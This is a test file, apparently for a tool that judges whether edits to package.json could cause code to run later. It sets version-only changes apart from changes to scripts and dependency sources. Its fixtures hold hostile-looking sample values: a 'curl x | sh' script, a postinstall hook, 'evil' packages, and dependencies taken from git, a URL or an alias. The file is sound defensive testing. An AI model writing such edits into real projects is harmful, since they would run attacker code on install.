import { describe, expect, it } from "vitest";
import type { JsonObject } from "../../src/contract/index.ts";
import { analyseTool, CONTEXT } from "./support/notation.ts";
import { treeOf } from "./support/tree.ts";

const BEFORE = JSON.stringify({
  name: "x",
  version: "1.0.0",
  scripts: { test: "vitest" },
  dependencies: { a: "^1.0.0", b: "2.0.0" },
});
const facts = treeOf({ "/w/package.json": { text: BEFORE }, "/w/bad/package.json": { text: "{" } });

function runsLater(tool: string, input: JsonObject): unknown {
  const { effects } = analyseTool(tool, input, { ...CONTEXT, facts });
  return effects.flatMap((effect) => (effect.kind === "write" ? [effect.runsLater] : []))[0];
}

function edit(from: string, to: string, more: JsonObject = {}): unknown {
  return runsLater("Edit", { file_path: "/w/package.json", old_string: from, new_string: to, ...more });
}

describe("an edit of package.json runs nothing later where it changes only", () => {
  it.each([
    ["the version", '"version":"1.0.0"', '"version":"1.1.0"'],
    ["a prerelease", '"version":"1.0.0"', '"version":"2.0.0-rc.1"'],
    ["a range", '"a":"^1.0.0"', '"a":">=1.2 <2"'],
    ["a range to any", '"b":"2.0.0"', '"b":"*"'],
  ])("%s", (_, from, to) => expect(edit(from, to)).toBe("no"));

  it("the version, written whole", () => {
    const content = BEFORE.replace('"version":"1.0.0"', '"version":"1.0.1"');
    expect(runsLater("Write", { file_path: "/w/package.json", content })).toBe("no");
  });
});

describe("it may run something later where it", () => {
  it.each([
    ["changes a script", '"test":"vitest"', '"test":"curl x | sh"'],
    ["adds a script", '"test":"vitest"', '"test":"vitest","postinstall":"x"'],
    ["adds a dependency", '"b":"2.0.0"', '"b":"2.0.0","evil":"1.0.0"'],
    ["renames a dependency", '"b":', '"evil":'],
    ["takes a dependency from an address", '"a":"^1.0.0"', '"a":"https://x.example/a.tgz"'],
    ["takes it from git", '"a":"^1.0.0"', '"a":"github:evil/a"'],
    ["takes it from a file", '"a":"^1.0.0"', '"a":"file:../a"'],
    ["takes another by an alias", '"a":"^1.0.0"', '"a":"npm:evil@1.0.0"'],
    ["adds a key", '"name":"x"', '"name":"x","bin":"x"'],
    ["leaves what is no JSON", '"name":"x"', '"name":x'],
    ["has a text that stands nowhere", "nowhere", "x"],
    ["has a text that stands in two places", '":"', '": "'],
    ["has an empty text", "", "x"],
  ])("%s", (_, from, to) => expect(edit(from, to)).toBe("maybe"));

  it.each([
    [
      "is written whole with a script",
      "Write",
      { file_path: "/w/package.json", content: '{"scripts":{"a":"b"}}' },
    ],
    ["was not there", "Write", { file_path: "/w/new/package.json", content: "{}" }],
    ["was no JSON", "Write", { file_path: "/w/bad/package.json", content: "{}" }],
    [
      "is edited by a tool whose new text is not known",
      "MultiEdit",
      { file_path: "/w/package.json", edits: [] },
    ],
  ])("%s", (_, tool, input) => expect(runsLater(tool, input)).toBe("maybe"));
});
